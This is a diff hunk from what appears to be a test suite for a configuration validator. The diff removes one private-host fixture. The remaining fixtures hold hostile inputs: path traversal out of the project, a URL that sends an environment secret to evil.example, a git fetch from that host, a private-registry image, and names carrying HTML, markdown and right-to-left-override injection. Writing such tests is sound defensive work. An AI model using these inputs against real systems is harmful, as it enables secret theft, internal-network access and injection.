@@ -139,7 +139,6 @@ FORKS = {
     "secret in a file": Fork(secret("from: file, path: ../../../home/outside.txt"), says=OUTSIDE),
     "variable of the environment": Fork("vars: {secret: none}\n" + weights("https://evil.example/${{ var.secret }}/m.bin"), says="none/m.bin"),
     "extends with git": Fork(f"extends: 'git::https://evil.example/x.git//a.yaml?ref={'a' * 40}'\n{PLAIN}", 13, "git would run"),
-    "extends of a private host": Fork(f"extends: 'https://10.0.0.5/a.yaml?checksum=sha256:{'a' * 64}'\n{PLAIN}", 1, PRIVATE),
     "extends of a file above": Fork(f"extends: ../../../home/outside.yaml\n{PLAIN}", 1, "is outside"),
     "image of a private registry": Fork("jobs: {j: {image: {base_image: '10.0.0.5:5000/a/b'}, runtime: {start_commands: [ls]}}}\n"),
     "hostile names": Fork("project: {name: '@admin <img src=x> ``` [a](https://x)'}\njobs: {'</details> @admin #1': {runtime: {start_commands: [\"```\\n</details>\\u202e@admin\"]}}}\n", says=""),
